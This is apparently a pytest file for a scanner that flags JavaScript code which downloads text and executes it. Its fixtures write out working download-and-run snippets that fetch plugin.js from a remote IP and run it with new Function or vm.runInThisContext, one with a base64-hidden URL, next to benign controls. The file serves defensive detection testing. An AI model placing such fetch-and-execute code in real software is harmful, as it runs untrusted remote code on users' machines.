"""JavaScript callbacks handed to a helper of the file: what the helper passes its callback
parameter (a download it gathered) reaches the function handed in, inline or named, so a helper
that downloads and a callback that runs the text are one download-and-run."""

from __future__ import annotations

from pathlib import Path

import pytest

from behaviour_files import scan_errors, scan_findings

HELPER = (
    "const http = require('http');\n"
    "function grab(address, done) {\n"
    "  http.get(address, function (reply) {\n"
    "    const parts = [];\n"
    "    reply.on('data', (piece) => parts.push(piece));\n"
    "    reply.on('end', () => done(Buffer.concat(parts).toString()));\n"
    "  });\n"
    "}\n"
)

RUNS = {
    "function expression handed in": (
        HELPER
        + "grab('http://203.0.113.40/plugin.js', function (src) {\n"
        + "  new Function('require', src)(require);\n});\n",
        10,
    ),
    "named function handed in": (
        HELPER
        + "const vm = require('vm');\n"
        + "const start = (text) => vm.runInThisContext(text);\n"
        + "grab(Buffer.from('aHR0cDovLzIwMy4wLjExMy40MC9wbHVnaW4uanM=', 'base64').toString(), start);\n",
        10,
    ),
}


@pytest.mark.parametrize("case", RUNS)
def test_a_callback_that_runs_the_download_is_an_error(tmp_path: Path, case: str) -> None:
    source, line = RUNS[case]
    assert ("DOWNLOAD_AND_RUN", "scripts/sync.js", line) in scan_errors(tmp_path, {"scripts/sync.js": source})


def test_a_callback_that_parses_the_download_stays_quiet(tmp_path: Path) -> None:
    source = (
        HELPER
        + "const fs = require('fs');\n"
        + "grab('https://registry.example.org/index.json', (body) => {\n"
        + "  fs.writeFileSync('cache/index.json', JSON.stringify(JSON.parse(body), null, 2));\n"
        + "});\n"
    )
    findings = scan_findings(tmp_path, {"scripts/sync.js": source})
    assert not [f for f in findings if f.severity.value == "error"]


def test_a_parameter_that_shadows_no_function_is_not_called(tmp_path: Path) -> None:
    source = (
        "function each(list, visit) {\n"
        "  for (const item of list) visit(item);\n"
        "}\n"
        "each(['a.md', 'b.md'], (name) => console.log(name.toUpperCase()));\n"
    )
    assert not scan_errors(tmp_path, {"scripts/list.js": source})
